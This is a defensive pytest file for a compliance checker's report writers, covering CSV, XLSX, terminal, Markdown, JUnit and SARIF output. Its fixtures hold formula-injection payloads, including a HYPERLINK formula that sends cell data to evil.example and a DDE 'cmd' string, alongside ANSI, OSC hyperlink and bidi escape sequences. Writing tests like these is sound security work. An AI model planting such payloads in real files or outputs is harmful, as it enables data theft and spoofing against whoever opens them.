"""Outputs that cannot attack their reader (issue #16): no spreadsheet cell is a formula, no terminal or
Markdown output carries an escape sequence or a bidi override from a record, JUnit and SARIF stay
valid documents holding record content exactly (but for what XML 1.0 cannot hold).

The hostile report below puts formula triggers, ANSI sequences, C0/C1 controls and bidi controls
into every field a record or a rule pack can reach: record id, rule id and title, agency (audit
placement), message, evidence, citation, source file, waiver reason, input errors and warnings. Its
renderings are golden files too (tests/golden/hostile.*), each checked by eye when written.

Regenerate the golden files with `FZCHECK_UPDATE_GOLDEN=1 pytest tests/test_output_safety.py`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import sys
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path

import jsonschema
import openpyxl
import pytest
import xmlschema
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from fzcheck.engine.outcomes.counts import Placement
from fzcheck.engine.outcomes.results import Citation, InputIssue, Report, RulesetInfo, SourceRef
from fzcheck.engine.output import RenderOptions, render, render_chunks, render_report
from fzcheck.engine.output.common import (
    BIDI_CONTROLS,
    FORMULA_TRIGGERS,
    spreadsheet_row,
    spreadsheet_safe,
    terminal_safe,
    xml_safe,
)
from fzcheck.engine.output.csv_report import BOM, COLUMNS

sys.path.insert(0, str(Path(__file__).parent))
from report_fixtures import CALENDAR, FILING, TOOL_VERSION, outcome  # noqa: E402

GOLDEN = Path(__file__).parent / "golden"
SCHEMAS = Path(__file__).resolve().parent.parent / "engine" / "output" / "schemas"
UPDATE = os.environ.get("FZCHECK_UPDATE_GOLDEN") == "1"

#: what the issue names: each must come out of a spreadsheet writer with a leading '
PAYLOADS = ['=HYPERLINK("http://x","y")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
#: an id that recolours the terminal and reverses the rest of the line
ANSI_ID = "cx-\x1b[31mred\x1b[0m-\u202eevil"
#: a message with more of the same: bell, backspace, NUL, the C1 CSI, a CR that would overwrite
#: the line, an isolate, a line separator
CONTROL_MESSAGE = "备案逾期\x1b[31m红色\x1b[0m\u202e反转\x07\x08\x00\x9b2J\r覆盖\u2066隔离\u2028换行"
HOSTILE_AGENCY = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE_RULE = "-RULE+1"
#: what no terminal or Markdown output may contain (C0 but tab and newline, DEL, C1, bidi, U+2028/9)
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029" + BIDI_CONTROLS + "]")


def hostile_citation(text: str) -> Citation:
    return Citation(document=text, doc_number=text, clause=text, quote=text)


def hostile_report() -> Report:
    outcomes = [
        outcome(
            "violation",
            "ND-FILING-DEADLINE",
            ("normative_document", payload, SourceRef(f"{payload}.csv", index + 2)),
            {"zh": payload, "en": payload},
            {"days_late": -1 - index, "rate": -0.5, "note": payload},
            hostile_citation(payload),
            title={"zh": payload, "en": payload},
        )
        for index, payload in enumerate(PAYLOADS)
    ]
    outcomes += [
        outcome(
            "violation",
            "ND-FILING-DEADLINE",
            ("normative_document", ANSI_ID, SourceRef("docs\x1b[2J.jsonl", 9)),
            {"zh": CONTROL_MESSAGE, "en": CONTROL_MESSAGE},
            {"raw": "\x1b[31m\x00", "provisional": True, "provisional_years": [2019]},
            FILING,
            title={"zh": "规范性文件备案期限\x1b[5m"},
        ),
        outcome(
            "waived",
            HOSTILE_RULE,
            ("enforcement_case", "@ec-1", SourceRef("cases.csv", 3)),
            {"zh": "-1 人", "en": "-1 officer"},
            {"officers": ["=1+1"]},
            FILING,
            ruleset="national",
            waiver={"reason": "=cmd|' /C calc'!A0", "approver": "+张三", "expires_on": "2030-12-31"},
        ),
        outcome(
            "pending",
            HOSTILE_RULE,
            ("enforcement_case", "\u202ecase", None),
            {"zh": "@待定\x1b]8;;http://evil\x1b\\链接\x1b]8;;\x1b\\", "en": "@pending"},
            {},
            FILING,
            ruleset="national",
            severity="warning",
        ),
    ]
    return Report(
        tool_version=TOOL_VERSION,
        as_of=dt.date(2019, 11, 23),
        rulesets=[RulesetInfo("chuxiong-2016", "1.0.0", "a" * 64), RulesetInfo("national", "1.0.0", "b" * 64)],
        records=9,
        outcomes=outcomes,
        errors=[InputIssue("=bad.csv", 2, "@field", "\x1b[31m无法识别\u202e的日期 '-1'")],
        warnings=[
            InputIssue("docs.jsonl", 3, "+col", "-1+1 未知字段，已忽略"),
            InputIssue("km.csv", 4, None, f"{HOSTILE_AGENCY} 仅按国家规则检查", record_id=ANSI_ID, code="coverage"),
        ],
        packs_applied={f"{o.record_kind}:{o.record_id}": [o.ruleset] for o in outcomes},
        calendar=CALENDAR,
    )


def hostile_audit_report():
    """The hostile report as a stored audit run: every record placed with a formula for an agency and
    month, as the summary sheet's counts by agency and month show them."""
    from fzcheck.engine.store.runs import AuditReport

    report = hostile_report()
    placement = {}
    counts: Counter = Counter()
    for index, o in enumerate(report.outcomes):
        key = (o.record_kind, o.record_id)
        placement[key] = Placement(HOSTILE_AGENCY if index % 2 else PAYLOADS[index % len(PAYLOADS)], "-2019-03")
        counts[(o.ruleset, o.rule_id, o.record_kind, *placement[key][:2], o.outcome)] += 1
    return AuditReport(
        tool_version=report.tool_version,
        as_of=report.as_of,
        rulesets=report.rulesets,
        records=report.records,
        outcomes=report.outcomes,
        errors=report.errors,
        warnings=report.warnings,
        packs_applied={},
        calendar=report.calendar,
        pass_count=3,
        counts=counts,
        placement=placement,
        run_id=7,
        parameters={"agency": HOSTILE_AGENCY},
        subjects=9,
    )


# --- the helpers ----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS + ["=", "-", "@", "+", "\t", "\r", "=1+1", "-2019-03"])
def test_spreadsheet_safe_prefixes_every_formula_trigger(payload: str) -> None:
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("text", ["cx-nd-1", "", "—", "备案逾期", " =1", "'=1", "1-1", "a=b", "\n=1", "＝1"])
def test_spreadsheet_safe_leaves_other_text_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize("value", [-1, -1.5, 0, 3, 2.0, None, True])
def test_spreadsheet_safe_keeps_numbers_numbers(value) -> None:
    assert spreadsheet_safe(value) is value


def test_spreadsheet_safe_makes_other_values_text() -> None:
    assert spreadsheet_safe(dt.date(2019, 3, 4)) == "2019-03-04"
    assert spreadsheet_row(["=1", -1, None, "x"]) == ["'=1", -1, None, "x"]
    assert FORMULA_TRIGGERS == ("=", "+", "-", "@", "\t", "\r")


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)))
def test_spreadsheet_safe_never_returns_a_formula(value) -> None:
    safe = spreadsheet_safe(value)
    if isinstance(value, str):
        assert not safe.startswith(FORMULA_TRIGGERS) and safe.removeprefix("'") in (value, value[1:])
    else:
        assert safe == value


def test_terminal_safe_shows_controls_as_escapes() -> None:
    assert terminal_safe(ANSI_ID) == "cx-\\x1b[31mred\\x1b[0m-\\u202eevil"
    assert terminal_safe("a\x07b\x08c\x00d\x7fe\x9bf\x85g") == "a\\x07b\\x08c\\x00d\\x7fe\\x9bf\\x85g"
    assert terminal_safe("a\r\nb\rc\nd\te") == "a\nb\nc\nd\te"
    assert (
        terminal_safe("\u2028\u2029\u061c\u200e\u200f\u2066\u2069")
        == "\\u2028\\u2029\\u061c\\u200e\\u200f\\u2066\\u2069"
    )
    assert terminal_safe("备案逾期：应于2018-06-19前（逾期1日）") == "备案逾期：应于2018-06-19前（逾期1日）"
    assert terminal_safe(12) == "12"


@given(st.text())
def test_terminal_safe_output_is_safe(value: str) -> None:
    safe = terminal_safe(value)
    assert not UNSAFE.search(safe)
    if not UNSAFE.search(value) and "\r" not in value:
        assert safe == value


def test_xml_safe_escapes_only_what_xml_forbids() -> None:
    assert xml_safe(ANSI_ID) == "cx-\\x1b[31mred\\x1b[0m-\u202eevil"
    assert xml_safe("a\x00b\x0bc\x0cd\x1fe\ufffef\uffff") == "a\\x00b\\x0bc\\x0cd\\x1fe\\ufffef\\uffff"
    assert xml_safe("tab\tlf\ncr\r\x85\x9b\u202e") == "tab\tlf\ncr\r\x85\x9b\u202e"


@given(st.text())
def test_xml_safe_output_parses(value: str) -> None:
    element = ET.Element("e", attribute=xml_safe(value))
    element.text = xml_safe(value)
    ET.fromstring(ET.tostring(element, encoding="unicode"))


# --- spreadsheet writers --------------------------------------------------------------------------


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


def assert_no_formula(cells) -> None:
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS)), cell


@pytest.mark.parametrize("include_pass", [False, True])
def test_csv_renderer_neutralises_every_text_cell(include_pass: bool) -> None:
    rows = csv_rows(render(hostile_report(), "csv", RenderOptions(include_pass=include_pass)))
    assert tuple(rows[0]) == COLUMNS
    by_column = [dict(zip(COLUMNS, row)) for row in rows[1:]]
    for row in rows:
        assert_no_formula(row)
    for payload, row in zip(PAYLOADS, by_column):
        for column in (
            "record_id",
            "message",
            "citation_document",
            "citation_clause",
            "citation_quote",
            "citation_clause_label",
        ):
            assert row[column] == "'" + payload, column
        assert row["file"] == (f"'{payload}.csv" if payload.startswith(FORMULA_TRIGGERS) else f"{payload}.csv")
    assert [row["line"] for row in by_column[: len(PAYLOADS)]] == [str(index + 2) for index in range(len(PAYLOADS))]
    assert by_column[len(PAYLOADS)]["record_id"] == ANSI_ID  # CSV keeps data exact but for the prefix
    assert {row["rule_id"] for row in by_column} == {"ND-FILING-DEADLINE", "'" + HOSTILE_RULE}
    assert json.loads(by_column[0]["evidence"])["note"] == PAYLOADS[0]


def test_audit_report_csv_is_neutralised_too() -> None:
    rows = csv_rows(render_report(hostile_audit_report(), "csv"))
    for row in rows:
        assert_no_formula(row)
    assert [row[5] for row in rows[1 : len(PAYLOADS) + 1]] == ["'" + payload for payload in PAYLOADS]


def xlsx_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return book, [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_xlsx_cells_are_text_never_formulas() -> None:
    book, cells = xlsx_cells(render_report(hostile_audit_report(), "xlsx"))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s" and not cell.value.startswith(FORMULA_TRIGGERS), (cell.coordinate, cell.value)
    sheet = book["行政规范性文件"]
    findings = list(sheet.iter_rows(min_row=2))
    for payload, row in zip(PAYLOADS, findings):
        # (XML turns a CR into a line feed when the workbook is read: "\r=1" comes back as "\n=1")
        expected = "'" + payload.replace("\r", "\n")
        for index in (1, 6, 9, 12, 13):  # title, record id, message, clause, quote
            assert row[index].data_type == "s" and row[index].value == expected, (index, row[index].value)
        assert row[11].value == f"{expected}（{payload.replace(chr(13), chr(10))}）"  # the document and its 文号
        assert row[15].data_type == "n" and isinstance(row[15].value, int)  # the line stays a number
    ansi = findings[len(PAYLOADS)]
    assert ansi[6].value == "cx-\\x1b[31mred\\x1b[0m-\u202eevil"  # ESC cannot be in XML: escaped


def test_xlsx_summary_keeps_counts_numbers_and_agencies_text() -> None:
    book, _ = xlsx_cells(render_report(hostile_audit_report(), "xlsx"))
    summary = book["汇总"]
    rows = {row[0].value: row[1] for row in summary.iter_rows() if row[0].value is not None and len(row) > 1}
    agency = rows["'" + HOSTILE_AGENCY]  # violations by agency: three of the hostile agency's
    assert agency.data_type == "n" and agency.value == 3
    assert rows["'" + PAYLOADS[0]].value == 2 and rows["'-2019-03"].value == 7
    assert rows["违规"].data_type == "n" and rows["违规"].value == 7
    assert rows["审计批次"].value == 7 and rows["记录数"].value == 9


def test_xlsx_in_english_too() -> None:
    _, cells = xlsx_cells(render_report(hostile_audit_report(), "xlsx", lang="en"))
    assert_no_formula(cell.value for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)


# --- terminal and Markdown ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "options"),
    [
        ("table", RenderOptions()),
        ("table", RenderOptions(lang="en", width=60, include_pass=True)),
        ("markdown", RenderOptions()),
        ("markdown", RenderOptions(lang="en", include_pass=True)),
        ("github", RenderOptions()),
        ("github", RenderOptions(lang="en")),
    ],
)
def test_no_control_character_reaches_a_reader(fmt: str, options: RenderOptions) -> None:
    output = render(hostile_report(), fmt, options)
    assert not UNSAFE.search(output), UNSAFE.search(output)
    assert "cx-\\x1b[31mred\\x1b[0m-\\u202eevil" in output.replace("\\\\", "\\")
    assert "\\u202e" in output.replace("\\\\", "\\")


def test_coloured_table_has_rich_colours_only() -> None:
    output = render(hostile_report(), "table", RenderOptions(color=True))
    assert "\x1b[" in output  # rich's own styles
    assert "\x1b[31mred" not in output and "\u202e" not in output and "\x07" not in output
    assert "\\x1b[31mred" in output
    escapes = set(re.findall(r"\x1b\[[0-9;]*m", output))
    assert escapes <= {
        "\x1b[0m",
        "\x1b[1m",
        "\x1b[2m",
        "\x1b[4m",
        "\x1b[1;4m",
        "\x1b[31m",
        "\x1b[1;31m",
        "\x1b[33m",
        "\x1b[1;33m",
        "\x1b[35m",
        "\x1b[36m",
        "\x1b[32m",
        "\x1b[34m",
    }, escapes
    assert not re.search("\x1b[^\\[]", output)  # no OSC (hyperlink), no other escape


def test_github_commands_cannot_be_ended_early() -> None:
    lines = render(hostile_report(), "github").splitlines()
    assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines)
    assert len(lines) == 11  # 7 violations, the pending outcome, the input error and 2 warnings
    assert any("cx-\\x1b[31mred\\x1b[0m-\\u202eevil" in line for line in lines)


# --- documents that keep the data: JSON, SARIF, JUnit ---------------------------------------------


def test_json_keeps_record_content_exact() -> None:
    data = json.loads(render(hostile_report(), "json"))
    assert [o["record_id"] for o in data["outcomes"][: len(PAYLOADS) + 1]] == [*PAYLOADS, ANSI_ID]
    assert data["outcomes"][len(PAYLOADS)]["message"] == CONTROL_MESSAGE
    assert data["errors"][0]["message"].startswith("\x1b[31m")
    lines = [json.loads(line) for line in render(hostile_report(), "jsonl").splitlines()]
    assert lines[len(PAYLOADS)]["record_id"] == ANSI_ID


@pytest.fixture(scope="module")
def sarif_validator() -> jsonschema.Draft4Validator:
    return jsonschema.Draft4Validator(json.loads((SCHEMAS / "sarif-schema-2.1.0.json").read_text(encoding="utf-8")))


@pytest.mark.parametrize("options", [RenderOptions(), RenderOptions(lang="en", include_pass=True)])
def test_sarif_with_control_characters_validates_and_keeps_them(sarif_validator, options) -> None:
    log = json.loads(render(hostile_report(), "sarif", options))
    assert list(sarif_validator.iter_errors(log)) == []
    results = log["runs"][0]["results"]
    assert results[len(PAYLOADS)]["properties"]["record_id"] == ANSI_ID
    assert results[len(PAYLOADS)]["message"]["text"].startswith(CONTROL_MESSAGE)
    uri = results[len(PAYLOADS)]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == "docs%1B%5B2J.jsonl"


@pytest.fixture(scope="module")
def junit_schema() -> xmlschema.XMLSchema:
    return xmlschema.XMLSchema(str(SCHEMAS / "junit-10.xsd"))


@pytest.mark.parametrize("options", [RenderOptions(), RenderOptions(lang="en")])
def test_junit_with_control_characters_validates(junit_schema, options) -> None:
    output = render(hostile_report(), "junit", options)
    junit_schema.validate(output)
    root = ET.fromstring(output)
    names = [case.get("name") for case in root.iter("testcase")]
    assert f"{xml_safe(ANSI_ID)} ND-FILING-DEADLINE" in names  # ESC escaped, U+202E kept
    assert '=HYPERLINK("http://x","y") ND-FILING-DEADLINE' in names  # not a spreadsheet: exact
    assert "\t=1 ND-FILING-DEADLINE" in names and "\r=1 ND-FILING-DEADLINE" in names  # attributes keep tab, CR
    failure = root.find(f".//testcase[@name='{xml_safe(ANSI_ID)} ND-FILING-DEADLINE']/failure")
    assert failure.get("message").startswith(xml_safe(CONTROL_MESSAGE).replace("\r", "\r"))


# --- golden files of the hostile report --------------------------------------------------------------


def xlsx_text(content: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(content))
    lines = []
    for sheet in book:
        lines.append(f"== {sheet.title}")
        lines += [
            "\t".join("" if c.value is None else f"{c.value!r}:{c.data_type}" for c in row).rstrip("\t")
            for row in sheet.iter_rows()
        ]
    return "\n".join(lines) + "\n"


HOSTILE_GOLDEN = [
    ("table", "hostile.table.zh.txt"),
    ("markdown", "hostile.markdown.zh.md"),
    ("github", "hostile.github.zh.txt"),
    ("csv", "hostile.zh.csv"),
    ("json", "hostile.zh.json"),
    ("junit", "hostile.junit.zh.xml"),
    ("sarif", "hostile.zh.sarif"),
    ("xlsx", "hostile.xlsx.zh.txt"),
]


@pytest.mark.parametrize(("fmt", "name"), HOSTILE_GOLDEN)
def test_hostile_golden(fmt: str, name: str) -> None:
    if fmt == "xlsx":
        output = xlsx_text(render_report(hostile_audit_report(), "xlsx"))
    else:
        output = render(hostile_report(), fmt, RenderOptions(include_pass=True))
    path = GOLDEN / name
    if UPDATE:
        path.write_text(output, encoding="utf-8", newline="")
    assert path.exists(), f"{path} missing: run with FZCHECK_UPDATE_GOLDEN=1"
    with path.open(encoding="utf-8", newline="") as golden:
        assert output == golden.read()


def test_chunks_are_the_same_text() -> None:
    for fmt in ("table", "markdown", "github", "csv", "json", "jsonl", "junit", "sarif"):
        assert "".join(render_chunks(hostile_report(), fmt)) == render(hostile_report(), fmt)


# --- through the command line: check, audit show, report, db quarantine ---------------------------

LATE = {
    "kind": "normative_document",
    "region_code": "532301",
    "agency": HOSTILE_AGENCY,
    "doc_number": "楚市政发〔2018〕12号",
    "title": "@SUM(A1)",
    "signed_on": "2018-05-30",
    "published_on": "2018-06-01",
    "filed_on": "2018-06-20",
    "status": "in_force",
}
#: the ids that survive the record readers (they strip surrounding whitespace, the tab and CR ones)
CLI_IDS = [*PAYLOADS[:4], ANSI_ID]


@pytest.fixture(scope="module")
def hostile_records(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.jsonl"
    path.write_text(
        "".join(
            json.dumps({**LATE, "id": record_id, "doc_number": f"楚市政发〔2018〕{n}号"}, ensure_ascii=False) + "\n"
            for n, record_id in enumerate(CLI_IDS, 1)
        ),
        encoding="utf-8",
    )
    return path


@pytest.fixture(scope="module")
def hostile_db(hostile_records):
    from fzcheck.engine.evaluate.audit import AuditParams, run_audit
    from fzcheck.engine.store.database import connect
    from fzcheck.engine.store.importer import import_paths

    database = hostile_records.parent / "hostile.db"
    broken = hostile_records.parent / "broken.jsonl"
    broken.write_text(
        json.dumps({**LATE, "id": PAYLOADS[0], "published_on": "=1+1"}, ensure_ascii=False)
        + "\n"
        + json.dumps({**LATE, "id": "@bad", "filed_on": "2019-02-30"})
        + "\n",
        encoding="utf-8",
    )
    engine = connect(str(database), create=True)
    import_paths(engine, [hostile_records, broken])
    run = run_audit(engine, AuditParams(as_of=dt.date(2026, 11, 23)), jobs=1)
    return database, run.run_id


def cli(*args: str):
    from fzcheck.cli.main import cli as command

    return CliRunner().invoke(command, list(args), catch_exceptions=False)


def test_check_csv_file(hostile_records, tmp_path) -> None:
    output = tmp_path / "out.csv"
    result = cli("check", str(hostile_records), "--as-of", "2026-11-23", "--format", "csv", "-o", str(output))
    assert result.exit_code == 1, result.output
    rows = [dict(zip(COLUMNS, row)) for row in csv_rows(output.read_text(encoding="utf-8"))[1:]]
    assert rows
    for row in rows:
        assert_no_formula(row.values())
        assert row["line"].isdigit()
    assert {row["record_id"] for row in rows} == {"'" + i if i.startswith(FORMULA_TRIGGERS) else i for i in CLI_IDS}
    assert not list(tmp_path.glob(".out.csv.*"))  # the temporary file was renamed


def test_check_terminal_formats(hostile_records) -> None:
    for fmt in ("table", "markdown", "github"):
        result = cli("check", str(hostile_records), "--as-of", "2026-11-23", "--format", fmt)
        assert result.exit_code == 1
        assert "\x1b" not in result.stdout and "\u202e" not in result.stdout, fmt
        assert "red\\x1b[0m" in result.stdout.replace("\\\\", "\\")


def test_audit_show_and_report_csv_and_xlsx(hostile_db, tmp_path) -> None:
    database, run_id = hostile_db
    shown = tmp_path / "show.csv"
    result = cli("audit", "show", str(run_id), "--db", str(database), "--format", "csv", "-o", str(shown))
    assert result.exit_code in (0, 1), result.output
    report_csv = tmp_path / "report.csv"
    result = cli("report", str(run_id), "--db", str(database), "--format", "csv", "-o", str(report_csv))
    assert result.exit_code == 0, result.output
    for path in (shown, report_csv):
        rows = csv_rows(path.read_text(encoding="utf-8"))
        assert len(rows) > 1
        for row in rows:
            assert_no_formula(row)
        assert "'" + PAYLOADS[0] in {row[5] for row in rows}
    workbook = tmp_path / "report.xlsx"
    result = cli("report", str(run_id), "--db", str(database), "--format", "xlsx", "-o", str(workbook))
    assert result.exit_code == 0, result.output
    book, cells = xlsx_cells(workbook.read_bytes())
    assert all(cell.data_type != "f" for cell in cells)
    assert_no_formula(cell.value for cell in cells)
    agencies = [row[0].value for row in book["汇总"].iter_rows()]
    assert "'" + HOSTILE_AGENCY in agencies


def test_db_quarantine_csv(hostile_db, tmp_path) -> None:
    database, _ = hostile_db
    output = tmp_path / "quarantine.csv"
    result = cli("db", "quarantine", "--db", str(database), "--csv", str(output))
    assert result.exit_code == 0, result.output
    text = output.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["import_id", "file", "line", "field", "reason", "record_kind", "record_id", "raw"]
    assert len(rows) == 3
    for row in rows:
        assert_no_formula(row)
    by_id = {row[6]: row for row in rows[1:]}
    assert set(by_id) == {"'" + PAYLOADS[0], "'@bad"}
    assert by_id["'" + PAYLOADS[0]][2] == "1" and json.loads(by_id["'" + PAYLOADS[0]][7])["published_on"] == "=1+1"
